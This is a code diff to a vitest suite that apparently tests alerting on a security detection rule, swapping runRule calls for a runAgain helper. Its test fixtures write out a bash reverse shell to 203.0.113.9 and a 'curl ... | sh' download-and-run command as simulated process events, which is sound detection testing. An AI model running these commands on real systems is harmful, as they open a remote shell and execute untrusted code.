@@ -2,12 +2,12 @@ import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { z } from 'zod';
 import { findAlerts, type AlertPage } from '../../common/api/find_alerts';
-import { runRule } from '../../common/api/run_rule';
 import { setAlertStatus } from '../../common/api/set_alert_status';
 import { extendedRule } from '../../common/rule/extended_rule';
 import { toShippedParams, type RuleParams } from '../../common/rule/rule_params';
 import type { Kibana } from './kibana';
 import { createConnector, createRuleCopy, getBody } from './rule_copy';
+import { runAgain } from './run_again';
 import { until } from './until';
 
 const MINUTES_3 = 180_000;
@@ -60,7 +60,10 @@ export const risenSuite = (kibana: Kibana): void => {
     });
 
   const readMessages = async (): Promise<Message[]> => {
-    const found = await askElasticsearch('GET', `${MESSAGES}/_search?size=50`);
+    const found = await askElasticsearch(
+      'GET',
+      `${MESSAGES}/_search?size=50&ignore_unavailable=true`
+    );
     return foundSchema
       .parse(found)
       .hits.hits.map(({ _source }) => _source)
@@ -126,7 +129,7 @@ export const risenSuite = (kibana: Kibana): void => {
       };
       const ancestry = [`${HOST}-root`, WORKER.entity_id];
       await addStart('shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', child, ancestry);
-      await kibana.call(runRule, { params: { id: ruleId } });
+      await runAgain(kibana, ruleId);
       const messages = await awaitMessages(2);
       expect(messages.map(({ group }) => group).sort()).toEqual(['match', 'severity_rose']);
       expect(messages.find(({ group }) => group === 'severity_rose')?.text).toContain('/dev/tcp/');
@@ -140,11 +143,11 @@ export const risenSuite = (kibana: Kibana): void => {
   test(
     'a further run of the same tree tells nobody again',
     async () => {
-      await kibana.call(runRule, { params: { id: ruleId } });
+      await runAgain(kibana, ruleId);
       // Another thing that is new says that the run is over.
       const other = { ...WORKER, entity_id: `${HOST}-other` };
       await addStart('other', 'curl http://203.0.113.9/x | sh', other, [other.entity_id]);
-      await kibana.call(runRule, { params: { id: ruleId } });
+      await runAgain(kibana, ruleId);
       const messages = await awaitMessages(3);
       expect(messages.map(({ group }) => group).sort()).toEqual([
         'match',
